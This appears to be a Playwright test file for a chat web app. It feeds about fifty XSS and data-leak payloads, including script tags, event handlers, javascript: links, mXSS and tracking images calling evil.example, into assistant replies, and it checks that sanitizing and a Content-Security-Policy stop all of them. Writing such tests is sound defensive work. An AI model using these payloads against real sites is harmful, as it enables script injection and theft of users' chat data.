import type { Page } from '@playwright/test';
import { ChatPage, expect, importConversation, mockConfig, mockKey, pageIdle, test } from './fixtures.ts';

/**
 * Attacks a model reply might carry (prompt injection can shape it). Each sets window.__xss or
 * calls a remote host if it ever runs or loads.
 */
const vectors = [
  '<script>window.__xss = "script"</script>',
  '<img src="x" onerror="window.__xss = \'img-onerror\'">',
  "[md link](javascript:window.__xss='md-link')",
  "[md upper](JaVaScRiPt:window.__xss='md-upper')",
  '<a href="javascript:window.__xss=\'html-link\'">html link</a>',
  '<a href="&#106;avascript:window.__xss=\'entity-link\'">entity link</a>',
  '<a href="  javascript:window.__xss=\'space-link\'">space link</a>',
  '<a href="java&#x09;script:window.__xss=\'tab-link\'">tab link</a>',
  '<a href="vbscript:msgbox(\'x\')">vbscript link</a>',
  '<a href="data:text/html,<script>window.__xss=\'data-link\'</script>">data link</a>',
  "![md image](javascript:window.__xss='md-image')",
  '![data image](data:image/svg+xml,<svg onload="window.__xss=\'data-image\'"/>)',
  '<iframe src="javascript:parent.__xss=\'iframe-src\'"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=\'iframe-srcdoc\'</script>"></iframe>',
  '<object data="javascript:window.__xss=\'object\'"></object>',
  '<embed src="javascript:window.__xss=\'embed\'">',
  '<svg onload="window.__xss=\'svg-onload\'"><circle r="5"></circle></svg>',
  '<svg><script>window.__xss="svg-script"</script></svg>',
  '<svg><a xlink:href="javascript:window.__xss=\'svg-link\'"><text y="20">svg link</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=\'mxss\'"></style></mglyph></table></mtext></math>',
  '<math href="javascript:window.__xss=\'math-href\'">math</math>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/meta">',
  '<form action="https://evil.example/phish"><input name="key"><button>Send</button></form>',
  '<input autofocus onfocus="window.__xss=\'autofocus\'">',
  '<details open ontoggle="window.__xss=\'details\'"><summary>More</summary>hidden</details>',
  '<body onload="window.__xss=\'body\'">',
  '<style>@import url("https://evil.example/style.css"); body { display: none }</style>',
  '<div style="background:url(https://evil.example/bg.png)">styled</div>',
  '<link rel="stylesheet" href="https://evil.example/link.css">',
  '<video src="x" onerror="window.__xss=\'video\'"></video><audio src="x" onerror="window.__xss=\'audio\'"></audio>',
  '<a href="https://ok.example/" onclick="window.__xss=\'onclick\'">safe link, bad handler</a>',
  '<img src="https://evil.example/leak?x=secret-chat-text" alt="tracker">',
  '![pixel](https://evil.example/leak2?x=secret)',
  '<img srcset="https://evil.example/srcset 1x" src="https://evil.example/srcset-src">',
  '<picture><source srcset="https://evil.example/source"><img src="https://evil.example/pic"></picture>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=\'noscript\'>"></noscript>',
  '<template><script>window.__xss="template"</script></template>',
  '<textarea><img src=x onerror="window.__xss=\'textarea\'"></textarea>',
  '<a id="__proto__" name="getElementById">clobber</a><form name="body"></form>',
  '<marquee onstart="window.__xss=\'marquee\'">m</marquee>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<portal src="https://evil.example/portal"></portal>',
  '<frameset onload="window.__xss=\'frameset\'"></frameset>',
  '<isindex action="javascript:window.__xss=\'isindex\'">',
  '<button formaction="javascript:window.__xss=\'formaction\'">button</button>',
  '<a href="https://example.com/ok">a fine link</a> and <a href="mailto:a@example.com">mail</a>',
  "[ref link][evil]\n\n[evil]: javascript:window.__xss='ref-link'",
  "<javascript:window.__xss='autolink'>",
  '```html\n<script>window.__xss="in-code"</script>\n```',
];

const hostileReply = `# Report\n\n${vectors.join('\n\n')}\n\nThe end.`;

async function expectNothingRan(page: Page, evilRequests: string[]) {
  const reply = page.locator('[data-testid=message][data-role=assistant]');
  await expect(reply).toContainText('The end.');
  // Any handler, timer or late load has had its turn: the page has been idle since.
  await pageIdle(page);
  expect(await page.evaluate(() => (window as unknown as { __xss?: string }).__xss)).toBeUndefined();
  expect(evilRequests).toEqual([]);
  expect(new URL(page.url()).pathname).toBe('/');

  const report = await reply.evaluate((root) => {
    // Our own icon buttons carry svg; everything else came from the reply.
    const elements = [...root.querySelectorAll('*')].filter((element) => !element.closest('button'));
    return {
      handlers: elements.flatMap((element) =>
        [...element.attributes].filter((attribute) => /^on/i.test(attribute.name)).map((a) => a.name),
      ),
      forbidden: elements
        .map((element) => element.tagName.toLowerCase())
        .filter((tag) =>
          [
            'script',
            'iframe',
            'object',
            'embed',
            'style',
            'form',
            'base',
            'meta',
            'link',
            'svg',
            'math',
            'input',
            'frameset',
            'portal',
            'template',
            'noscript',
            'textarea',
          ].includes(tag),
        ),
      hrefs: elements
        .map((element) => element.getAttribute('href'))
        .filter((href): href is string => href !== null),
      styled: elements.filter((element) => element.hasAttribute('style')).length,
      images: root.querySelectorAll('img').length,
    };
  });
  expect(report.handlers).toEqual([]);
  expect(report.forbidden).toEqual([]);
  expect(report.styled).toBe(0);
  // Remote images wait for a click.
  expect(report.images).toBe(0);
  for (const href of report.hrefs) expect(href === '' || /^(https?:|mailto:|#)/.test(href)).toBe(true);
  // The harmless parts still render.
  await expect(reply.getByRole('heading', { name: 'Report' })).toBeVisible();
  await expect(reply.getByRole('link', { name: 'a fine link' })).toHaveAttribute(
    'href',
    'https://example.com/ok',
  );
  await expect(reply.getByText('<script>window.__xss="in-code"</script>')).toBeVisible();
}

test(`${vectors.length} hostile vectors in a reply: nothing runs, loads, navigates or leaks`, async ({
  page,
}) => {
  const evilRequests: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) evilRequests.push(request.url());
  });
  const chat = new ChatPage(page);
  await chat.open(mockConfig('openai', 'secret-key-123'));
  await importConversation(page, hostileReply);
  await expectNothingRan(page, evilRequests);

  // Clicking every link that survived runs nothing either.
  const links = page.locator('[data-testid=message][data-role=assistant] a');
  for (let index = 0; index < (await links.count()); index++) {
    const href = await links.nth(index).getAttribute('href');
    if (href?.startsWith('http') || href?.startsWith('mailto')) continue;
    await links.nth(index).click({ force: true });
  }
  expect(await page.evaluate(() => (window as unknown as { __xss?: string }).__xss)).toBeUndefined();
});

test('a remote image loads only when clicked, and the placeholder names its host', async ({ page }) => {
  const evilRequests: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) evilRequests.push(request.url());
  });
  await page.route('https://evil.example/**', (route) => route.fulfill({ status: 404, body: '' }));
  const chat = new ChatPage(page);
  await chat.open();
  await importConversation(page, '# Pic\n\n![chart](https://evil.example/chart.png)\n\nThe end.');
  const placeholder = page.getByRole('button', { name: /Load image .*chart.* from evil\.example/ });
  await expect(placeholder).toBeVisible();
  await pageIdle(page);
  expect(evilRequests).toEqual([]);
  await placeholder.click();
  await expect.poll(() => evilRequests.length).toBe(1);
});

test('a streamed hostile reply is sanitized too', async ({ page }) => {
  const evilRequests: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) evilRequests.push(request.url());
  });
  const chat = new ChatPage(page);
  await chat.open(mockConfig('openai', mockKey('hostile')));
  await chat.newConversation();
  await chat.send('Summarise this page');
  await chat.waitForReplyDone();
  await expect(chat.messages('assistant')).toContainText('End of reply.');
  expect(await page.evaluate(() => (window as unknown as { __xss?: string }).__xss)).toBeUndefined();
  expect(evilRequests).toEqual([]);
});

test('the Content-Security-Policy blocks inline script even if markup got through', async ({ page }) => {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) violations.push(message.text());
  });
  const chat = new ChatPage(page);
  await chat.open();
  await page.evaluate(() => {
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="data:," onerror="window.__xss = \'csp\'">';
    document.body.append(holder);
    const script = document.createElement('script');
    script.textContent = 'window.__xss = "inline"';
    document.body.append(script);
  });
  await expect.poll(() => violations.length).toBeGreaterThan(0);
  await pageIdle(page);
  expect(await page.evaluate(() => (window as unknown as { __xss?: string }).__xss)).toBeUndefined();
});
